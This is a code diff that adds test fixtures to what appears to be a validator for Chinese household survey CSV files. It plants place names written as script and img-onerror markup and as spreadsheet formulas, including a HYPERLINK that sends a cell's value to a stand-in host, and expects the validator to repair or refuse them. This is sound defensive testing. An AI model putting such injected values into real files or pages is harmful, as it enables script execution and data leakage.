@@ -402,6 +402,7 @@ def cases(e: pd.DataFrame) -> dict[str, tuple[dict[str, bytes], dict]]:
         "personal data", row=2, column="行政村", personal=[address.iloc[0]],
         case="a home address with house number typed into 行政村, a column that is kept")
     offices(e, add)
+    hostile_names(e, add)
     return out
 
 
@@ -603,6 +604,31 @@ def offices(e: pd.DataFrame, add) -> None:
     add("county_short_ambiguous.csv", {"county_short_ambiguous.csv": csv_bytes(two)}, "refused", "write the full name",
         row=row_of(e, h4, 2021), column="县(市、区、旗)",
         case=f"{county[:-1]} beside both {county} and {county[:-1]}市 in one prefecture")
+
+
+def hostile_names(e: pd.DataFrame, add) -> None:
+    """Place names written as markup, a link or a formula: kept as written with a warning (every output shows
+    them as text); a county name that cannot name a report folder is refused."""
+    h0, h1, h2 = e["户编号"].unique()[:3]
+    markup = e.copy()
+    markup.loc[markup["户编号"] == h0, "乡(镇)"] = '<script>document.title="X"</script>镇'
+    markup.loc[markup["户编号"] == h1, "行政村"] = "<img src=x onerror=alert(1)>村"
+    add("markup_place_names.csv", {"markup_place_names.csv": csv_bytes(markup)}, "repaired", "hold markup",
+        column="乡(镇)", case="a township written as a <script> element and a village as an <img onerror> tag",
+        values=[{"household": h1, "year": 2021, "column": "village", "value": "<img src=x onerror=alert(1)>村"}])
+    formula = e.copy()
+    formula.loc[formula["户编号"] == h0, "行政村"] = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    formula.loc[formula["户编号"] == h1, "行政村"] = "+1+1村"
+    formula.loc[formula["户编号"] == h2, "行政村"] = "@SUM(1+1)村"
+    add("formula_place_names.csv", {"formula_place_names.csv": csv_bytes(formula)}, "repaired",
+        "start like a spreadsheet formula", column="行政村",
+        case="villages written =HYPERLINK(...), +1+1村 and @SUM(1+1)村",
+        values=[{"household": h2, "year": 2022, "column": "village", "value": "@SUM(1+1)村"}])
+    folder = e.copy()
+    folder["县(市、区、旗)"] = "<script>x</script>县"
+    add("county_not_a_folder_name.csv", {"county_not_a_folder_name.csv": csv_bytes(folder)}, "refused",
+        "cannot name the county's report folder", row=2, column="县(市、区、旗)",
+        case="a county written as a <script> element: its '/' cannot be in the name of its report folder")
 
 
 def main() -> None:
